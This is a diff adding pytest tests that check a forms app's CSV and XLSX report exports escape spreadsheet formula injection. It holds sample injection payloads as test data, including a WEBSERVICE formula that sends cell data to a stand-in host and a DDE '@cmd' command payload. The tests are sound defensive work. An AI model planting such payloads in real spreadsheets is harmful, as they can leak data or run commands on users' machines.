@@ -3,14 +3,17 @@ left out unless privileged, every case export logged."""
 
 import csv
 import io
+import uuid as uuid_lib
+import zipfile
 
 import pytest
 from openpyxl import load_workbook
 from sqlalchemy import select
 
 from cslp_forms.extensions import db
-from cslp_forms.models import AccessLog, ExportLog
+from cslp_forms.models import AccessLog, ExportLog, Submission, User
 from tests.api import report_fixture
+from tests.api.sync_helpers import activity, item
 from tests.conftest import assert_problem
 
 MARKER = "GHI-CHU-MAT"
@@ -138,3 +141,106 @@ def test_empty_export_still_has_headers(login):
     rows = read_csv(login("giamsat.culaodung").get(
         "/api/reports/export?form=model_group&format=csv&period=2024-Q1"))
     assert rows[0][0] == "Mã phiếu" and "Loại mô hình" in rows[0] and len(rows) == 1
+
+
+# --- what a spreadsheet would run, or cannot read ------------------------------------
+
+# Each starts a cell that Excel or LibreOffice would evaluate as a formula (OWASP's list).
+FORMULAS = ['=WEBSERVICE("http://x.example/?"&A1)', "+1+2", "-2+3", "@SUM(A1:A9)",
+            "\t=1+2", "\r=1+2"]
+
+
+def filed_activities(login, texts):
+    """One activity per text, the text as its title (and its notes), filed in 31630."""
+    officer = login("canbo.anthanh2")
+    uuids = []
+    for n, text in enumerate(texts, 1):
+        it = item(activity(title_content=text, notes=text, participants_total=40 + n,
+                           participants_female=30, participants_male=10 + n))
+        [result] = officer.post("/api/sync", json={"items": [it]}).get_json()["results"]
+        assert result["status"] == "accepted", result
+        uuids.append(it["uuid"])
+    return uuids
+
+
+def sheet_xml(res) -> str:
+    with zipfile.ZipFile(io.BytesIO(res.get_data())) as book:
+        return book.read("xl/worksheets/sheet1.xml").decode()
+
+
+def test_text_answers_are_never_formulas_in_xlsx(login):
+    uuids = filed_activities(login, FORMULAS)
+    res = login("giamsat.culaodung").get("/api/reports/export?form=activity&format=xlsx")
+    assert "<f>" not in sheet_xml(res) and "<f " not in sheet_xml(res)
+    sheet = read_xlsx(res)["Phiếu"]
+    rows = list(sheet.iter_rows())
+    header = [c.value for c in rows[0]]
+    title, notes = header.index("Tên, nội dung hoạt động"), header.index("Ghi chú")
+    total, day = header.index("Tổng số lượt người tham dự"), header.index("Ngày")
+    by_uuid = {r[0].value: r for r in rows[1:]}
+    for n, (uuid, text) in enumerate(zip(uuids, FORMULAS, strict=True), 1):
+        row = by_uuid[uuid]
+        # The text reads back as she typed it: a string cell, marked as text for Excel.
+        for cell in (row[title], row[notes]):
+            assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True)
+        assert row[total].value == 40 + n and row[total].data_type == "n"
+        assert row[day].is_date
+
+
+def test_text_answers_cannot_start_a_formula_in_csv(login):
+    uuids = filed_activities(login, [*FORMULAS, "Họp ấp Phước Hòa", "a;=1+2"])
+    res = login("giamsat.culaodung").get("/api/reports/export?form=activity&format=csv")
+    rows = read_csv(res)
+    header = rows[0]
+    title = header.index("Tên, nội dung hoạt động")
+    total = header.index("Tổng số lượt người tham dự")
+    by_uuid = {r[0]: r for r in rows[1:]}
+    for n, (uuid, text) in enumerate(zip(uuids[:len(FORMULAS)], FORMULAS, strict=True), 1):
+        assert by_uuid[uuid][title] == "'" + text
+        assert by_uuid[uuid][total] == str(40 + n)
+    assert by_uuid[uuids[-2]][title] == "Họp ấp Phước Hòa"
+    # Every text cell is quoted, so a spreadsheet splitting on ";" (the Vietnamese list
+    # separator) cannot make a cell of "=1+2"; numbers stay bare, read as numbers.
+    text = res.get_data().decode("utf-8-sig")
+    assert '"a;=1+2"' in text and f',{40 + len(FORMULAS) + 2},' in text
+
+
+def test_formulas_in_repeat_rows_and_names_are_text(app, login):
+    officer = login("canbo.anthanh2")
+    it = item({"model_type": "chia_se", "name": "=HYPERLINK(\"http://x\")",
+               "program_source": ["de_an_938"], "established_date": "2024-01-05",
+               "status": "dang_hoat_dong", "status_date": "2024-02-01", "members_total": 9,
+               "meetings": [{"date": "2024-03-01", "topic": "=1+2",
+                             "participants_total": 9}]}, form="model_group")
+    [result] = officer.post("/api/sync", json={"items": [it]}).get_json()["results"]
+    assert result["status"] == "accepted", result
+    with app.app_context():
+        user = db.session.scalar(select(User).where(User.username == "canbo.anthanh2"))
+        user.display_name = "@cmd|' /C calc'!A0"
+        db.session.commit()
+    res = login("giamsat.culaodung").get("/api/reports/export?form=model_group&format=xlsx")
+    assert "<f>" not in sheet_xml(res)
+    [row] = list(read_xlsx(res)["Phiếu"].iter_rows(min_row=2, values_only=True))
+    assert "=HYPERLINK(\"http://x\")" in row and "@cmd|' /C calc'!A0" in row
+    assert any(isinstance(v, str) and v.startswith("1. ") and "=1+2" in v for v in row)
+    rows = read_csv(login("giamsat.culaodung").get(
+        "/api/reports/export?form=model_group&format=csv"))
+    assert "'=HYPERLINK(\"http://x\")" in rows[1] and "'@cmd|' /C calc'!A0" in rows[1]
+
+
+# Not XML 1.0 characters: stored before sync refused them, they must not break an export.
+@pytest.mark.parametrize("bad", ["\x0b", "\x1f", "\x01", "\ufffe", "\uffff", "\ud800"])
+def test_an_unwritable_character_already_stored_does_not_break_exports(app, login, bad):
+    [uuid] = filed_activities(login, ["Họp ấp"])
+    with app.app_context():
+        if bad == "\ud800" and db.engine.dialect.name == "postgresql":
+            pytest.skip("jsonb cannot hold a lone surrogate (tests/pg/test_schema.py)")
+        row = db.session.get(Submission, uuid_lib.UUID(uuid))
+        row.answers = {**row.answers, "title_content": f"Họp{bad}ấp", "notes": bad}
+        db.session.commit()
+    supervisor = login("giamsat.culaodung")
+    book = read_xlsx(supervisor.get("/api/reports/export?form=activity&format=xlsx"))
+    [row] = list(book["Phiếu"].iter_rows(min_row=2, values_only=True))
+    assert "Họp\ufffdấp" in row and "\ufffd" in row
+    rows = read_csv(supervisor.get("/api/reports/export?form=activity&format=csv"))
+    assert "Họp\ufffdấp" in rows[1] and "\ufffd" in rows[1]
